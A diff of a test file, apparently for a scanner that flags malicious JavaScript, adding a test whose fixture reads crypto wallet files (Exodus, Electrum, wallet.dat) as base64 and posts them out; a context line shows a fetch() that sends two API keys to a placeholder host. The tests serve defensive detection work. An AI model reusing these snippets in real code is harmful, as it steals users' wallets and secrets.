@@ -200,3 +200,16 @@ def test_the_keys_of_a_client_that_makes_addresses_are_not_what_is_sent() -> Non
     assert findings_of(CHECK, source) == []
     sent = "fetch(`https://a.invalid/?${process.env.ONE_API_KEY}${process.env.TWO_API_KEY}`)"
     assert len(findings_of(CHECK, sent)) == 1
+
+
+def test_a_long_evaluation_of_what_is_read_keeps_that_it_is_read() -> None:
+    """The steps of one evaluation are bounded, and arguments may take all of them."""
+    source = """
+        const L = ['/.config/Exodus/exodus.wallet', '/.electrum/wallets', '/.config/b/wallet.dat'];
+        const o = L.map((x) => home + x).filter(fs.existsSync).flatMap((d) =>
+          fs.statSync(d).isDirectory()
+            ? fs.readdirSync(d).map((f) => [d + '/' + f, fs.readFileSync(d + '/' + f, 'base64')])
+            : [[d, fs.readFileSync(d, 'base64')]]);
+        if (o.length) post(JSON.stringify(o));
+    """
+    assert worst(findings_of(CHECK, START + source), RULE) == Severity.CRITICAL
